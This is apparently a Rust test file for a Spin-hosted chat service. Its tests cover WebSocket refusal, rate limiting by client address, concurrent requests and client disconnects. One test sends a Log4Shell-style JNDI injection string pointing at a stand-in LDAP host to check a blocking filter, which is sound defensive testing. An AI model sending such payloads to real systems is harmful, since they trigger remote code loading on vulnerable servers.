//! Requests as Spin brings them: a client's address, clients that leave, several at once, and sockets, of which there are none.

use chat::Code;
use chat::internal::{TURNS, TurnRequest};
use reqwest::Method;

use crate::fixture::{
    Connection, DISCOVERY, FakeOrigin, MESSAGES, Reply, SHIPPING, SpinShop, Step, answer, eventually,
    message, refused, refused_raw,
};

/// Turns that all guests of an address have in a minute.
const ADDRESS_TURNS: u32 = 60;
/// So many guests are over that limit, with what comes back while they ask: one a second.
const GUESTS_MAX: u32 = 20;
/// One less than a guest has turns in a minute: it is never the guest's own limit.
const TURNS_OF_A_GUEST: u32 = 9;
/// Who asks at the same time. One instance takes sixteen requests at once.
const VISITORS: usize = 8;
/// Fewer than an answer may have.
const PIECES: u32 = 2_900;

#[tokio::test(flavor = "multi_thread")]
async fn a_websocket_is_refused_and_told_what_there_is_instead() {
    let origin = FakeOrigin::answering(&["never asked"]);
    let shop = SpinShop::with_origin(&origin).await;
    let (host, cookie) = (shop.address, shop.guest().await.cookie);
    let mut connection = Connection::to(host).await;
    let handshake = format!(
        "GET /v1/chat/ws HTTP/1.1\r\nhost: {host}\r\ncookie: {cookie}\r\nconnection: Upgrade\r\n\
         upgrade: websocket\r\nsec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
    );
    let reply = connection.write(handshake).await.reply().await;
    refused_raw(&reply, Code::NoSockets);
    assert!(reply.problem().detail.contains("Server-Sent Events"), "{}", reply.body);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_client_does_not_choose_its_address() {
    let origin = FakeOrigin::answering(&["never asked"]);
    let shop = SpinShop::with_origin(&origin).await;
    let mut answered = 0;
    for place in 0..GUESTS_MAX {
        let guest = shop.guest().await;
        for turn in 0..TURNS_OF_A_GUEST {
            let body = serde_json::to_string(&message(SHIPPING)).expect("a message has a JSON form");
            let request = guest.request(Method::POST, MESSAGES).header("content-type", "application/json");
            let request = request.header("spin-client-addr", format!("10.0.{place}.{turn}:1")).body(body);
            let reply = Reply::to(request).await;
            if reply.status == 429 {
                assert!(answered >= ADDRESS_TURNS, "{answered}");
                return;
            }
            reply.answer();
            answered += 1;
        }
    }
    panic!("{answered} turns of one address were answered");
}

#[tokio::test(flavor = "multi_thread")]
async fn filters_do_not_see_the_headers_of_spin() {
    let origin = FakeOrigin::answering(&["never asked"]);
    let shop = SpinShop::with_origin(&origin).await;
    let visitor = shop.stranger();
    let with =
        |name: &str| visitor.request(Method::GET, "/").header(name, "${jndi:ldap://elsewhere.example/a}");
    refused(&Reply::to(with("x-note")).await, Code::Blocked);
    assert_eq!(Reply::to(with("spin-note")).await.status, 200);
}

#[tokio::test(flavor = "multi_thread")]
async fn visitors_at_once_get_an_answer_each() {
    let origin = FakeOrigin::doing(|turn| {
        let mut steps = answer(turn, &[turn.text.as_str()]);
        steps.insert(2, Step::Gate);
        steps
    });
    let shop = SpinShop::with_origin(&origin).await;
    let mut asking = Vec::new();
    for place in 0..VISITORS {
        let (guest, question) = (shop.guest().await, message(&format!("{DISCOVERY}, and {place} more")));
        let text = question.text.clone();
        asking.push((text, tokio::spawn(async move { guest.ask(&question).await })));
    }
    // Every one of them waits for the origin.
    origin.call(TURNS, VISITORS).await;
    for _ in 0..VISITORS {
        origin.let_one_go_on();
    }
    for (text, reply) in asking {
        assert_eq!(reply.await.expect("asking does not panic").answer().text, text);
    }
}

/// An answer that goes on as long as the test lets it.
fn in_many_pieces(turn: &TurnRequest) -> Vec<Step> {
    let mut steps = vec![Step::stream(), Step::start(turn)];
    steps.extend((1..PIECES).flat_map(|seq| [Step::delta(turn, seq, "on "), Step::Gate]));
    steps
}

/// Spin tells an application that a client has left when it writes the next piece.
#[tokio::test(flavor = "multi_thread")]
async fn a_client_that_leaves_ends_the_call_to_the_origin() {
    let origin = FakeOrigin::doing(in_many_pieces);
    let shop = SpinShop::with_origin(&origin).await;
    let mut stream = shop.guest().await.ask_for_stream(&message(DISCOVERY)).await;
    stream.next().await;
    drop(stream);
    eventually("the call ends", || {
        origin.let_one_go_on();
        std::future::ready(origin.was_hung_up_on())
    })
    .await;
}
